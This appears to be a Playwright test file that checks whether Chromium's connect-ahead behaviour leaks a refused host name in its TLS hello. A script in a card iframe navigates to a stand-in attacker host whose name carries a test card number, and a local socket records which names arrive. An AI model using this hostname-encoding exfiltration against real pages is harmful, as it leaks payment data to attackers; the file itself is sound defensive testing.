import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { chromium } from '@playwright/test';
import { expect, test } from '../support/fixtures.ts';
import type { Tenant } from '../support/tenant.ts';

/**
 * A script that leaves for an address with the card number in its host's name: the page refuses it, but a browser that connects
 * ahead has named the host in its TLS hello by then. The policies for tablets end that; here the preference is set that the
 * policy sets.
 */

/** The browser with all its services; the one without a window does not connect ahead. */
const BROWSER = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const CARD = '4111111111111111';

/** A TCP socket, and the names of hosts in the TLS hellos that have come to it. */
async function openSocket() {
  const names: string[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (hello) => {
      names.push(/([a-z0-9]+)\.thief\.example/u.exec(hello.toString('latin1'))?.[1] ?? '');
      socket.destroy();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return {
    port: typeof address === 'object' && address !== null ? address.port : 0,
    names,
    close: () => server.close(),
  };
}

test.skip(!existsSync(BROWSER), 'needs a whole Chromium');

/** The hosts that were named when a script in the card document has left for a refused one, and a page for an allowed one. */
async function namesWith(
  option: number,
  tenant: Pick<Tenant, 'url'>,
  profile: string,
): Promise<readonly string[]> {
  mkdirSync(join(profile, 'Default'), { recursive: true });
  const preferences = { net: { network_prediction_options: option } };
  writeFileSync(join(profile, 'Default/Preferences'), JSON.stringify(preferences));
  const thief = await openSocket();
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: BROWSER,
    args: ['--host-resolver-rules=MAP *.thief.example 127.0.0.1'],
  });
  const page = await context.newPage();
  await page.goto(tenant.url);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = '/card.html';
    document.body.append(frame);
  });
  const find = () => page.frames().find((frame) => frame.url().endsWith('/card.html'));
  await expect.poll(() => find()?.evaluate(() => document.readyState) ?? '').toBe('complete');
  await find()?.evaluate(
    (address) => window.location.assign(address),
    `https://${CARD}.thief.example:${thief.port}/`,
  );
  await expect.poll(find, 'the page refuses the address').toBeUndefined();
  // Asked for afterwards, and allowed: had the other been named, it was named before.
  const other = await context.newPage();
  await other.goto(`https://other.thief.example:${thief.port}/`).catch(() => undefined);
  await expect.poll(() => thief.names).toContain('other');
  await context.close();
  thief.close();
  return thief.names;
}

test('a refused host is not named by a browser with the policy for tablets', async ({ tenant }, info) => {
  expect(await namesWith(2, tenant, info.outputPath('with'))).not.toContain(CARD);
  // Only where one without it does name the host has that shown anything.
  const names = await namesWith(0, tenant, info.outputPath('without'));
  test.skip(!names.includes(CARD), 'this browser had no time to connect ahead, so that nothing was shown');
});
